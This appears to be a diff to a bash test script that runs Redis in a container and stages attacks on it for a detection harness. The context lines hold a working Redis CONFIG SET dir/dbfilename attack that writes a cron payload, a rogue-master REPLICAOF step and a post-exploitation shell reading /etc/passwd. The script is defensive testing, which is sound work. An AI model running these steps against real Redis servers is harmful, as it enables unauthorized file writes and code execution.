@@ -1,9 +1,9 @@
 #!/usr/bin/env bash
-# redis-server 7 (Debian's) in a runc container under redis-benchmark and redis-cli mixes.
+# redis-server 7 (Debian's) in a container under redis-benchmark and redis-cli mixes.
 # Background work of its own: RDB snapshots (save 5 200: a forked child), AOF with fsync every
 # second and its rewrite, key expiry (keys set with EX), a log rotated by the entrypoint shell
 # every 10 s. Attacks: CONFIG SET dir/dbfilename + SAVE (a file written where the attacker
-# chose), REPLICAOF a rogue master (the test's listener), a post-exploitation shell (runc exec).
+# chose), REPLICAOF a rogue master (the test's listener), a post-exploitation shell (runc exec, docker exec or lxc-attach).
 # Misconfiguration that makes the first attack possible: enable-protected-configs yes (the
 # default before redis 7).
 source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
@@ -72,7 +72,7 @@ srv_load_round() {
 SRV_ATTACKS="config_write rogue_master post_shell"
 
 srv_attack_config_write() {
-	rm -f "$B/rootfs/tmp/cids-evil.sh"
+	rm -f "$ROOT/tmp/cids-evil.sh"
 	rcli CONFIG SET dir /tmp
 	rcli CONFIG SET dbfilename cids-evil.sh
 	rcli SET cids:payload $'\n\n* * * * * root sh -c "id > /tmp/owned"\n\n'
@@ -81,7 +81,7 @@ srv_attack_config_write() {
 	rcli CONFIG SET dbfilename dump.rdb
 	rcli DEL cids:payload
 }
-srv_effect_config_write() { grep -q 'owned' "$B/rootfs/tmp/cids-evil.sh"; }
+srv_effect_config_write() { grep -q 'owned' "$ROOT/tmp/cids-evil.sh"; }
 
 srv_attack_rogue_master() {
 	rm -f "$TMP/rogue.out"
@@ -100,10 +100,10 @@ srv_attack_rogue_master() {
 srv_effect_rogue_master() { grep -qi 'ping' "$TMP/rogue.out"; }
 
 srv_attack_post_shell() {
-	rm -f "$B/rootfs/tmp/post-ok"
-	runc exec "$CNAME" /bin/sh -c 'sleep 1; id; cat /etc/passwd; ls -la /data; ps;
+	rm -f "$ROOT/tmp/post-ok"
+	ctr_exec /bin/sh -c 'sleep 1; id; cat /etc/passwd; ls -la /data; ps;
 		echo pwned > /tmp/post-ok'
 }
-srv_effect_post_shell() { [ -e "$B/rootfs/tmp/post-ok" ]; }
+srv_effect_post_shell() { [ -e "$ROOT/tmp/post-ok" ]; }
 
 [ "${BASH_SOURCE[0]}" = "$0" ] && srv_main
